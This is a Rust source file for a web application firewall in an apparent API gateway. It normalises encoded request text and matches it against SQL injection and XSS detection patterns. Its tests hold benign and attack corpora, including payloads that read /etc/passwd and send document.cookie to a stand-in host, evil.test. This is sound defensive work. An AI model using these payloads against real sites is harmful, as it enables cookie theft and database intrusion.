//! A basic WAF: request paths, query strings, a few headers that carry user text
//! (`User-Agent`, `Referer`, `Cookie`) and bounded bodies are checked against SQL
//! injection and XSS patterns, after normalisation (percent-decoding twice, `+` as space,
//! JSON string escapes such as `\u003c`, HTML character references such as `&lt;` and
//! `&#x3c;`, lower case, SQL comments and runs of white space as one space), so encodings
//! and comment tricks do not hide them.
//!
//! The patterns aim at what attacks need (a quote or number followed by boolean logic, a
//! `union select`, stacked statements, time functions; script tags, event handlers,
//! `javascript:` URLs) rather than at words: "select", "union", "or", "drop", apostrophes
//! and angle brackets alone never match. The false-positive budget and the corpora it is
//! measured on are in the tests below and in docs/security.md.

use floodgate_config::waf::{Waf, WafMode, WafRule};
use http::HeaderMap;
use http::header;
use prometheus_client::encoding::EncodeLabelSet;
use prometheus_client::metrics::counter::Counter;
use prometheus_client::metrics::family::Family;
use prometheus_client::registry::Registry;
use regex::RegexSet;

const SQLI: &[&str] = &[
    // ' or 1=1, " or "a"="a, 1 or 1=1, ' or 'x' like 'x
    // ' or ''=' (empty strings compared)
    r#"['"`]\s*(or|and|xor|\|\||&&)\s*['"`][\w-]*['"`]\s*(=|<|>|!=|<>|\blike\b)\s*['"`]"#,
    r#"['"`]\s*(or|and|xor|\|\||&&)\s*['"`]?[\w-]+['"`]?\s*(=|<|>|!=|<>|\blike\b|\bis\b)\s*['"`]?[\w-]+"#,
    r#"\b\d+\s+(or|and)\s+\d+\s*=\s*\d+"#,
    // ' or true, ' or 1 --
    r#"['"`]\s*(or|and)\s+(true|false|not\b|\d+\s*(--|#|$))"#,
    r"\bunion(\s+all|\s+distinct)?\s+select\b",
    // stacked statements
    r#"['"`]?\s*;\s*(drop|delete|insert|update|create|alter|truncate|exec|execute|shutdown|declare)\s"#,
    // time-based and error-based probes
    r"\b(sleep|pg_sleep|benchmark)\s*\(\s*\d",
    r"\bwaitfor\s+delay\s+'",
    r"\b(extractvalue|updatexml)\s*\(",
    r"\binformation_schema\b",
    r"\bload_file\s*\(|\binto\s+(out|dump)file\b",
    // a quote closing a string, then a comment to the end of the value
    r#"['"`]\s*(--|#)\s*($|&)"#,
    r"\bselect\b.{1,100}\bfrom\b.{1,100}\bwhere\b.{1,100}(=|\blike\b)",
];

const XSS: &[&str] = &[
    r"<\s*script\b",
    r"<\s*/\s*script\s*>",
    r"\bjavascript\s*:",
    r"\bvbscript\s*:",
    r"<[^>]*\bon[a-z]{3,}\s*=",
    r"<\s*(iframe|object|embed|applet|meta|base|svg|math)\b",
    r"\bdata\s*:\s*text/html",
    r"\bsrcdoc\s*=",
    r"document\s*\.\s*(cookie|domain|write)",
    r"\b(alert|prompt|confirm)\s*\(",
    r"expression\s*\(",
];

/// A route's compiled WAF.
pub struct WafPolicy {
    /// Block or only monitor.
    pub mode: WafMode,
    /// Bodies up to this many bytes are inspected.
    pub body_limit: u64,
    sets: Vec<(&'static str, RegexSet)>,
}

impl WafPolicy {
    /// Compiles validated config.
    pub fn compile(w: &Waf) -> Self {
        let mut sets = Vec::new();
        for rule in &w.rules {
            let (name, patterns) = match rule {
                WafRule::Sqli => ("sqli", SQLI),
                WafRule::Xss => ("xss", XSS),
            };
            if let Ok(set) = RegexSet::new(patterns) {
                sets.push((name, set));
            }
        }
        WafPolicy {
            mode: w.mode,
            body_limit: w.inspect_body.0,
            sets,
        }
    }

    /// The rule set a text matches, if any.
    pub fn check_text(&self, raw: &[u8]) -> Option<&'static str> {
        let text = normalize(raw);
        self.sets
            .iter()
            .find(|(_, set)| set.is_match(&text))
            .map(|(name, _)| *name)
    }

    /// The rule set the request head matches, if any.
    pub fn check_head(
        &self,
        path: &str,
        query: Option<&str>,
        headers: &HeaderMap,
    ) -> Option<&'static str> {
        self.check_text(path.as_bytes())
            .or_else(|| query.and_then(|q| self.check_text(q.as_bytes())))
            .or_else(|| {
                [header::USER_AGENT, header::REFERER, header::COOKIE]
                    .iter()
                    .flat_map(|h| headers.get_all(h))
                    .find_map(|v| self.check_text(v.as_bytes()))
            })
    }
}

fn percent_decode(input: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        if b == b'%'
            && let Some(hex) = input.get(i + 1..i + 3)
            && let Ok(s) = std::str::from_utf8(hex)
            && let Ok(v) = u8::from_str_radix(s, 16)
        {
            out.push(v);
            i += 3;
            continue;
        }
        out.push(if b == b'+' { b' ' } else { b });
        i += 1;
    }
    out
}

/// JSON string escapes decoded: `\uXXXX` (surrogate pairs joined, a lone one as U+FFFD),
/// `\"`, `\\`, `\/`, and the control escapes as white space. Other backslashes stay.
fn json_unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.peek().copied() {
            Some('u') => {
                chars.next();
                let Some(unit) = hex4(&mut chars) else {
                    out.push_str("\\u");
                    continue;
                };
                let decoded = if (0xD800..0xDC00).contains(&unit) {
                    // A high surrogate: a low one must follow as `\uXXXX`.
                    let mut ahead = chars.clone();
                    let low = (ahead.next() == Some('\\') && ahead.next() == Some('u'))
                        .then(|| hex4(&mut ahead))
                        .flatten()
                        .filter(|l| (0xDC00..0xE000).contains(l));
                    match low {
                        Some(low) => {
                            chars = ahead;
                            char::from_u32(0x10000 + ((unit - 0xD800) << 10) + (low - 0xDC00))
                        }
                        None => None,
                    }
                } else {
                    char::from_u32(unit)
                };
                out.push(decoded.unwrap_or('\u{fffd}'));
            }
            Some(e @ ('"' | '\\' | '/')) => {
                chars.next();
                out.push(e);
            }
            Some('n' | 'r' | 't' | 'b' | 'f') => {
                chars.next();
                out.push(' ');
            }
            _ => out.push('\\'),
        }
    }
    out
}

/// Four hex digits as a number, taken from `chars` (none taken if they are not there).
fn hex4(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) -> Option<u32> {
    let mut ahead = chars.clone();
    let mut v = 0u32;
    for _ in 0..4 {
        v = v * 16 + ahead.next()?.to_digit(16)?;
    }
    *chars = ahead;
    Some(v)
}

/// HTML character references decoded: numeric ones (`&#60;`, `&#x3c;`, the `;` optional
/// as browsers allow) and the named ones payloads use to hide syntax.
fn html_unescape(text: &str) -> String {
    const NAMED: &[(&str, char)] = &[
        ("lt", '<'),
        ("gt", '>'),
        ("quot", '"'),
        ("apos", '\''),
        ("amp", '&'),
        ("colon", ':'),
        ("lpar", '('),
        ("rpar", ')'),
        ("sol", '/'),
        ("equals", '='),
        ("semi", ';'),
        ("tab", ' '),
        ("newline", ' '),
    ];
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (decoded, used) = if let Some(num) = after.strip_prefix('#') {
            let (digits, radix, skip) = match num.strip_prefix(['x', 'X']) {
                Some(hex) => (hex, 16, 2),
                None => (num, 10, 1),
            };
            let len = digits
                .bytes()
                .take_while(|b| (*b as char).is_digit(radix))
                .count();
            let value = digits
                .get(..len.min(8))
                .filter(|d| !d.is_empty())
                .and_then(|d| u32::from_str_radix(d, radix).ok());
            match value {
                Some(v) => {
                    let semi = usize::from(digits[len..].starts_with(';'));
                    (
                        Some(char::from_u32(v).unwrap_or('\u{fffd}')),
                        skip + len + semi,
                    )
                }
                None => (None, 0),
            }
        } else {
            NAMED
                .iter()
                .find(|(name, _)| {
                    let bytes = after.as_bytes();
                    bytes
                        .get(..name.len())
                        .is_some_and(|b| b.eq_ignore_ascii_case(name.as_bytes()))
                        && bytes.get(name.len()) == Some(&b';')
                })
                .map_or((None, 0), |(name, c)| (Some(*c), name.len() + 1))
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = &after[used..];
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// Decoded twice (double encoding), then JSON escapes and HTML references decoded, lower
/// case, SQL comments and white space runs as one space.
fn normalize(raw: &[u8]) -> String {
    let decoded = percent_decode(&percent_decode(raw));
    let text = String::from_utf8_lossy(&decoded);
    let text = if text.contains('\\') {
        json_unescape(&text)
    } else {
        text.into_owned()
    };
    let text = if text.contains('&') {
        html_unescape(&text)
    } else {
        text
    };
    let text = text.to_lowercase();
    let mut out = String::with_capacity(text.len());
    let mut rest = text.as_str();
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        out.push(' ');
        rest = match rest[start + 2..].find("*/") {
            Some(end) => &rest[start + 2 + end + 2..],
            None => "",
        };
    }
    out.push_str(rest);
    let mut collapsed = String::with_capacity(out.len());
    let mut space = false;
    for c in out.chars() {
        if c.is_whitespace() {
            if !space {
                collapsed.push(' ');
            }
            space = true;
        } else {
            collapsed.push(c);
            space = false;
        }
    }
    collapsed
}

/// The WAF, among the guards (its body inspection runs after admission).
pub(crate) const POLICY: crate::policy::RoutePolicy = crate::policy::RoutePolicy {
    name: "waf",
    phase: crate::policy::Phase::Guards,
    describe: |r| {
        let Some(w) = &r.waf else { return Vec::new() };
        let rules: Vec<&str> = w
            .rules
            .iter()
            .map(|r| match r {
                WafRule::Sqli => "sqli",
                WafRule::Xss => "xss",
            })
            .collect();
        vec![format!(
            "waf: {} ({}), bodies up to {}",
            rules.join(", "),
            match w.mode {
                WafMode::Block => "block",
                WafMode::Monitor => "monitor",
            },
            w.inspect_body
        )]
    },
};

/// The WAF's metric family: matches, by route, rule set and mode.
pub struct WafMetrics {
    matches: Family<WafLabel, Counter>,
}

#[derive(Clone, Debug, Hash, PartialEq, Eq, EncodeLabelSet)]
struct WafLabel {
    route: String,
    rule: &'static str,
    mode: &'static str,
}

impl WafMetrics {
    /// Registers the family.
    pub(crate) fn register(reg: &mut Registry) -> Self {
        let m = WafMetrics {
            matches: Family::default(),
        };
        reg.register(
            "waf_matches",
            "Requests a route's WAF matched, by rule set and mode (block, monitor)",
            m.matches.clone(),
        );
        m
    }

    /// Counts a match.
    pub fn matched(&self, route: &str, rule: &'static str, mode: &'static str) {
        self.matches
            .get_or_create(&WafLabel {
                route: route.to_owned(),
                rule,
                mode,
            })
            .inc();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn waf() -> WafPolicy {
        WafPolicy::compile(&Waf {
            mode: WafMode::Block,
            rules: vec![WafRule::Sqli, WafRule::Xss],
            inspect_body: floodgate_config::value::ByteSize(65536),
        })
    }

    /// Benign requests, written to look like real traffic to an API and a shop,
    /// including the words, quotes and symbols naive filters trip on.
    const BENIGN: &[&str] = &[
        "/products?q=select+a+size&sort=price",
        "/search?q=union+station+chicago",
        "/search?q=rock+and+roll",
        "/search?q=black+or+white+shirt",
        "/search?q=drop+shipping",
        "/search?q=O%27Brien",
        "/search?q=don%27t+stop+believing",
        "/users/o'neil/orders",
        "/api/v1/items?filter=price%3E10&limit=20",
        "/api/v1/items?where=color%3Dred",
        "/docs/how-to-select-from-a-list",
        "/blog/2024/05/script-writing-tips",
        "/blog/the-onion-router",
        "/search?q=1+or+2+bedrooms",
        "/search?q=%22exact+phrase%22",
        "/search?q=C%2B%2B+and+Rust",
        "/search?q=a+%3C+b",
        "/search?q=x%3E%3Dy",
        "/files/report_2024-01-01.pdf",
        "/redirect?to=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1",
        "/search?q=alert+system",
        "/search?q=javascript+tutorial",
        "/search?q=onclick+event+handler+explained",
        "/search?q=insert+coin",
        "/search?q=update+my+address",
        "/search?q=sleep+well",
        "/search?q=benchmark+results",
        "/music/mr-brightside",
        "/search?q=information+about+schema+markup",
        "/search?q=%3Cb%3Ebold%3C%2Fb%3E+tag",
        "/search?q=email%40example.com",
        "/search?q=100%25+cotton",
        "/search?q=semi%3Bcolon",
        "/search?q=it%27s+a+1%3A1+copy",
        "/search?q=rock+%26+roll",
        "/search?q=tom+%26+jerry%27s",
        "/api/graphql?query=%7Bproducts%7Bid+name%7D%7D",
        "/search?q=where+is+the+select+button",
        "/search?q=selecting+from+the+menu+where+prices+are+low",
        "/search?q=she+said+%22hi%22+--+and+left",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
        "curl/8.5.0",
        "https://www.google.com/search?q=floodgate+gateway",
        "session=abc123; theme=dark; lang=en-GB",
        "cart=%7B%22items%22%3A%5B1%2C2%5D%7D",
        r#"{"name":"O'Reilly","comment":"Great book, 5/5 -- would buy again"}"#,
        r#"{"query":"select shoes where color is red","page":2}"#,
        r#"{"html":"<p>Hello <b>world</b></p>","lang":"en"}"#,
        r#"{"title":"1 < 2 and 3 > 2","tags":["math","or","and"]}"#,
        r#"{"note":"meeting at 5; bring the slides"}"#,
        r#"{"bio":"I love <3 cats & dogs"}"#,
        "name=Ana+Mar%C3%ADa&city=S%C3%A3o+Paulo&message=Ol%C3%A1%21",
        "email=jo%40example.com&password=p%40ss%27word%3B123",
        "comment=I+can%27t+select+more+than+one+option+--+please+fix",
        "address=1+Main+St%3B+Apt+2&notes=leave+at+door+or+porch",
        "search=union+jack+flag&category=flags",
        "q=how+do+I+drop+a+table+from+my+plans",
        "text=%3Cimg+alt%3D%22cat%22%3E",
        "formula=%3DSUM%28A1%3AA3%29",
        r#"{"path":"C:\\Users\\ana\\notes.txt","quote":"she said \"or\" twice"}"#,
        r#"{"emoji":"\ud83d\ude00","accent":"caf\u00e9","tab":"a\tb"}"#,
        "q=tom+%26amp%3B+jerry&note=5+%26lt%3B+6",
        "q=%26%2339%3Bquoted%26%2339%3B+and+fish+%26+chips",
        "terms=I+agree+%27or%27+disagree",
    ];

    /// Attacks, in the forms scanners and hand-written payloads use.
    const ATTACKS: &[&str] = &[
        "/items?id=1%27%20OR%20%271%27%3D%271",
        "/items?id=1' or '1'='1",
        "/items?id=1 OR 1=1",
        "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
        "/items?id=1 union all select null,null--",
        "/items?id=1/**/UNION/**/SELECT/**/1,2",
        "/items?id=1%2527%2520OR%25201%253D1",
        "/login?user=admin'--",
        "/login?user=admin%27%23",
        "/items?id=1; DROP TABLE users",
        "/items?id=1';delete from orders where 1=1;--",
        "/items?id=1 AND SLEEP(5)",
        "/items?id=1' AND pg_sleep(10)--",
        "/items?id=1;WAITFOR DELAY '0:0:5'--",
        "/items?id=1 AND extractvalue(1,concat(0x7e,version()))",
        "/items?id=1 UNION SELECT table_name FROM information_schema.tables",
        "/items?id=1' or true--",
        "/items?q=x\" or \"a\"=\"a",
        "/items?id=-1 union select load_file('/etc/passwd')",
        "/items?id=1' and benchmark(10000000,md5(1))--",
        "/search?q=<script>alert(1)</script>",
        "/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E",
        "/search?q=%253Cscript%253E",
        "/search?q=<img src=x onerror=alert(1)>",
        "/search?q=<svg/onload=alert(1)>",
        "/search?q=<body onload=prompt(1)>",
        "/search?q=javascript:alert(1)",
        "/go?url=JaVaScRiPt:confirm(1)",
        "/search?q=<iframe src=//evil.test>",
        "/search?q=<a href=\"javascript:void(0)\">",
        "/search?q=\"><script src=//evil.test/x.js></script>",
        "/search?q=<div style=\"width:expression(alert(1))\">",
        "/search?q=<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "/search?q=<iframe srcdoc=\"<script>alert(1)</script>\">",
        "/search?q=<math><mtext><img src onerror=alert(1)>",
        r#"{"comment":"<script>fetch('//evil.test?c='+document.cookie)</script>"}"#,
        r#"{"id":"1' OR '1'='1"}"#,
        "name=x&bio=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
        "user=admin%27+or+1%3D1--&pass=x",
        "q=1%29+union+select+1%2C2%2C3--",
        "/login?user=' OR ''='",
        "/login?user=x%27+or+%27%27%3D%27",
        r#"{"comment":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
        r#"{"comment":"\u003CSCRIPT\u003E"}"#,
        r#"{"q":"1\u0027 OR \u00271\u0027=\u00271"}"#,
        r#"{"bio":"\u003cimg src=x onerror=alert(1)\u003e"}"#,
        "comment=&lt;script&gt;alert(1)&lt;/script&gt;",
        "comment=&#60;img src=x onerror=alert(1)&#62;",
        "url=javascript&colon;alert(1)",
        "comment=&#x3C;svg onload=confirm(1)&#x3E;",
    ];

    #[test]
    fn false_positives_and_detection_on_the_corpora() {
        let w = waf();
        let false_positives: Vec<&str> = BENIGN
            .iter()
            .copied()
            .filter(|b| w.check_text(b.as_bytes()).is_some())
            .collect();
        let missed: Vec<&str> = ATTACKS
            .iter()
            .copied()
            .filter(|a| w.check_text(a.as_bytes()).is_none())
            .collect();
        // The budget (docs/security.md): no false positive on the benign corpus, and at
        // least 95% of the attacks caught.
        assert!(
            false_positives.is_empty(),
            "false positives: {false_positives:#?}"
        );
        assert!(
            missed.len() * 20 <= ATTACKS.len(),
            "missed {} of {}: {missed:#?}",
            missed.len(),
            ATTACKS.len()
        );
        eprintln!(
            "WAF corpora: {} benign, 0 false positives; {} attacks, {} missed",
            BENIGN.len(),
            ATTACKS.len(),
            missed.len()
        );
    }

    #[test]
    fn normalisation() {
        assert_eq!(normalize(b"A%2527B"), "a'b");
        assert_eq!(normalize(br#"\u003Cb\u003e \"q\" \/ \\"#), r#"<b> "q" / \"#);
        assert_eq!(
            normalize(br#"\ud83d\ude00 \ud83d x \u12"#),
            "\u{1f600} \u{fffd} x \\u12"
        );
        assert_eq!(
            normalize(b"&lt;a&GT; &#60;&#x3C;&#X3c &amp;amp; &nope; &#;"),
            "<a> <<< &amp; &nope; &#;"
        );
        assert_eq!(normalize(b"UNION/**/SELECT  \t x"), "union select x");
        assert_eq!(normalize(b"a+b"), "a b");
    }

    proptest::proptest! {
        /// Any bytes: the normaliser never panics (partial escapes, surrogates, entities at
        /// the end of the text, invalid UTF-8), and never lengthens runs of white space.
        #[test]
        fn the_normaliser_takes_any_bytes(raw in proptest::collection::vec(proptest::num::u8::ANY, 0..200)) {
            let text = normalize(&raw);
            proptest::prop_assert!(!text.contains("  "));
        }

        #[test]
        fn the_normaliser_takes_escape_soup(raw in "[%\\\\u&#x;0-9a-fA-F<>'\" ltgamp]{0,80}") {
            let _ = normalize(raw.as_bytes());
        }
    }
}
